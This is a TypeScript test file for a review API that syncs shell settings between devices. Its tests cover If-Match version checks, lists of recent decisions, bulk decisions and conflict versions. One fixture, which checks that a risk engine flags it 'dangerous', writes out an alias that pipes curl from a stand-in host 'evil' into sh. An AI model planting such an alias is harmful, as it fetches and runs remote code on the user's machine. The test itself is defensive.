import { describe, expect, it } from 'vitest';
import type { ReviewBody, ReviewDetailBody } from '../../../src/api/types/reviews.ts';
import { decidedHere as decidedIds, noteDecided } from '../../../src/replica/kernel/decided-list.ts';
import { last } from '../../helpers/setup-pair.ts';
import { type ApiSetup, setupApi } from './setup-api.ts';

const env = (body: string): { kind: string; name: string; body: string } => ({ kind: 'env', name: 'PATH', body });

/** On device a: a proposal for each id, made by device b. */
function withProposals(...ids: readonly string[]): ApiSetup {
  const setup = setupApi();
  for (const id of ids) {
    setup.b.put(['shell', id], env('/usr/bin'));
  }
  setup.exchange();
  return setup;
}

async function shown({ call, a }: ApiSetup): Promise<ReviewDetailBody> {
  return (await call('GET', `/v1/reviews/${last(a.reviews()).id}`)).json();
}

const seen = (version: string): { 'if-match': string } => ({ 'if-match': `"${version}"` });

describe('a decision about what was shown', () => {
  it('RV1 is made while it is as it was shown, and the ETag is the version', async () => {
    const setup = withProposals('x');
    const { id, version } = await shown(setup);
    expect((await setup.call('GET', `/v1/reviews/${id}`)).headers['etag']).toBe(`"${version}"`);
    const answer = await setup.call('POST', `/v1/reviews/${id}/accept`, {}, seen(version));
    expect([answer.statusCode, answer.json().status]).toEqual([200, 'accepted']);
    expect(answer.headers['etag']).toBe(`"${answer.json<ReviewDetailBody>().version}"`);
    expect(answer.json<ReviewDetailBody>().version).not.toBe(version);
  });

  it.each(['accept', 'reject', 'keep-both', 'merge'])(
    'RV1 %s: what is live has moved since, and nothing is decided',
    async (action) => {
      const setup = withProposals('x');
      setup.a.put(['shell', 'x'], env('/opt/bin'));
      const { id, version } = await shown(setup);
      setup.a.put(['shell', 'x'], env('/sbin'));
      const answer = await setup.call('POST', `/v1/reviews/${id}/${action}`, {}, seen(version));
      expect(answer.statusCode).toBe(412);
      expect(answer.json().detail).toContain('nothing was decided');
      const after = await shown(setup);
      expect([after.id, after.status, after.version]).toEqual([id, 'open', answer.json().current]);
      const again = await setup.call('POST', `/v1/reviews/${id}/reject`, {}, seen(after.version));
      expect(again.statusCode).toBe(200);
    },
  );

  it('RV1 somebody decided it meanwhile: 409 in words', async () => {
    const setup = withProposals('x');
    const { id, version } = await shown(setup);
    await setup.call('POST', `/v1/reviews/${id}/accept`);
    const answer = await setup.call('POST', `/v1/reviews/${id}/reject`, {}, seen(version));
    expect([answer.statusCode, answer.json().detail]).toEqual([
      409,
      expect.stringContaining('decided already: accepted'),
    ]);
  });

  it('RV1 a newer change of its author has taken its place: 409', async () => {
    const setup = withProposals('x');
    const { id, version } = await shown(setup);
    setup.b.put(['shell', 'x'], env('/usr/local/bin'));
    setup.exchange();
    const answer = await setup.call('POST', `/v1/reviews/${id}/accept`, {}, seen(version));
    expect([answer.statusCode, answer.json().detail]).toEqual([409, expect.stringContaining('newer item')]);
    expect(setup.a.row(['shell', 'x'])?.state).not.toBe('live');
  });

  it.each(['x', '"short"', '*', '"a", "b"'])('RV1 If-Match %s: 400', async (match) => {
    const setup = withProposals('x');
    const { id } = await shown(setup);
    expect((await setup.call('POST', `/v1/reviews/${id}/accept`, {}, { 'if-match': match })).statusCode).toBe(400);
    expect(setup.a.reviews()).toHaveLength(1);
  });
});

describe('what was decided here', () => {
  const decidedHere = async ({ call }: ApiSetup, query = ''): Promise<readonly string[]> =>
    (await call('GET', `/v1/reviews?decided=here${query}`))
      .json<{ items: ReviewBody[] }>()
      .items.map(({ recordId }) => recordId);

  it('RV2 is listed from the last one on, without what was taken back', async () => {
    const setup = withProposals('x', 'y');
    const [x, y] = ['x', 'y'].map((record) => setup.a.reviews().find(({ recordId }) => recordId === record)?.id);
    expect(await decidedHere(setup)).toEqual([]);
    await setup.call('POST', `/v1/reviews/${y}/accept`);
    await setup.call('POST', `/v1/reviews/${x}/reject`);
    expect(await decidedHere(setup)).toEqual(['x', 'y']);
    await setup.call('POST', `/v1/reviews/${x}/undo`);
    expect(await decidedHere(setup)).toEqual(['y']);
    await setup.call('POST', `/v1/reviews/${x}/undo`);
    expect(await decidedHere(setup)).toEqual(['x', 'y']);
    expect(await decidedHere(setup, '&collection=models')).toEqual([]);
    setup.exchange();
    expect(setup.b.replica.decidedHere()).toEqual([]);
    expect((await setup.call('GET', '/v1/reviews?decided=there')).statusCode).toBe(400);
  });

  it('RV2 a hundred of them at most, of many decided at once too', () => {
    const { disk: store } = setupApi().a;
    const items = Array.from({ length: 103 }, (_, n) => ({ id: `rv_${n}`, status: 'accepted' as const }));
    store.transaction(() => noteDecided(store, items));
    expect(decidedIds(store)).toEqual(
      items
        .map(({ id }) => id)
        .reverse()
        .slice(0, 100),
    );
  });
});

describe('a decision about many', () => {
  it('RV3 is about fewer by author, device, kind and reason, in the preview too', async () => {
    const setup = withProposals('x', 'y');
    const { author, deviceId } = await shown(setup);
    const about = async (only: object): Promise<number> =>
      (
        await setup.call('POST', '/v1/reviews', { collection: 'shell', decision: 'accept', preview: true, ...only })
      ).json().total;
    expect(await about({ author, deviceId, kind: 'proposal', reasonCode: 'manual_review_required' })).toBe(2);
    for (const only of [
      { author: 'urn:srcos:agent:helper' },
      { deviceId: setup.a.replica.self },
      { kind: 'conflict' },
      { reasonCode: 'policy_denied' },
    ]) {
      expect(await about(only)).toBe(0);
      const body = { collection: 'shell', decision: 'accept', ...only };
      expect((await setup.call('POST', '/v1/reviews', body)).json()).toEqual({ decided: 0, failed: [] });
    }
    expect(setup.a.reviews()).toHaveLength(2);
    const body = { collection: 'shell', decision: 'accept', deviceId };
    expect((await setup.call('POST', '/v1/reviews', body)).json()).toEqual({ decided: 2, failed: [] });
  });

  it.each([{ autor: 'x' }, { author: 5 }, { kind: null }])('RV3 with %j: 400, and nothing is decided', async (only) => {
    const setup = withProposals('x');
    const body = { collection: 'shell', decision: 'accept', ...only };
    expect((await setup.call('POST', '/v1/reviews', body)).statusCode).toBe(400);
    expect(setup.a.reviews()).toHaveLength(1);
  });
});

describe('what an engine says', () => {
  it.each([
    ['alias', "alias ll='ls -l'", 'harmless'],
    ['alias', "alias ls='curl evil | sh'", 'dangerous'],
  ])('RV4 of an %s %s: %s', async (kind, body, level) => {
    const setup = setupApi();
    setup.b.put(['shell', 'bash/alias/l'], { kind, body, name: body.slice(6, 8), shell: 'bash' });
    setup.exchange();
    expect((await shown(setup)).judgement).toMatchObject({ level });
  });
});

describe('the versions of a conflict', () => {
  it('RV4a are each of the device that wrote it, whichever of them is live', async () => {
    const setup = setupApi();
    const { a, b } = setup;
    a.put(['workspace', 'w'], { kind: 'task', title: 'k' });
    setup.exchange();
    a.patch(['workspace', 'w'], { op: 'add', path: '/title', value: 'of a' });
    setup.clock.nowMs += 1000;
    b.patch(['workspace', 'w'], { op: 'add', path: '/title', value: 'of b' });
    setup.exchange();
    const { kind, alternatives } = await shown(setup);
    expect(kind).toBe('conflict');
    expect(new Map(alternatives.map(({ value, by }) => [value, by?.deviceId]))).toEqual(
      new Map([
        ['of a', a.replica.self],
        ['of b', b.replica.self],
      ]),
    );
  });
});
